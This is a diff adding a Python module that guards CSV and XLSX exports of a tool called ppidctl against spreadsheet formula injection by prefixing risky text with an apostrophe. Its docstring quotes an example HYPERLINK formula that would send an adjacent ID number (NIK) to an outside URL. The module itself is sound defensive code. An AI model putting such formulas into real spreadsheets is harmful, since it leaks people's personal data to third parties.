@@ -1,0 +1,24 @@
+"""Formula injection (OWASP "CSV injection"): the one rule every CSV and XLSX that ppidctl
+writes follows for text a spreadsheet would run as a formula.
+
+A text cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab / carriage return) is run as a
+formula by Excel or LibreOffice: ``=HYPERLINK("http://…?"&D2)`` typed as a name sends the NIK
+beside it away with one click. :func:`csv_safe` prefixes such text with an apostrophe for CSV
+files; the XLSX writers store it as a text cell with Excel's "quote prefix"
+(:func:`is_formula_like`), so it shows unchanged and still is not run. The import drops the
+apostrophe again (``legacy.values.bersihkan``). No heavy import here: the import and the
+reports both use it.
+"""
+
+from __future__ import annotations
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def is_formula_like(value: object) -> bool:
+    return isinstance(value, str) and value.startswith(FORMULA_START)
+
+
+def csv_safe(value: object) -> object:
+    """Text a spreadsheet would run as a formula, prefixed with ``'`` (OWASP CSV injection)."""
+    return "'" + value if is_formula_like(value) else value  # type: ignore[operator]
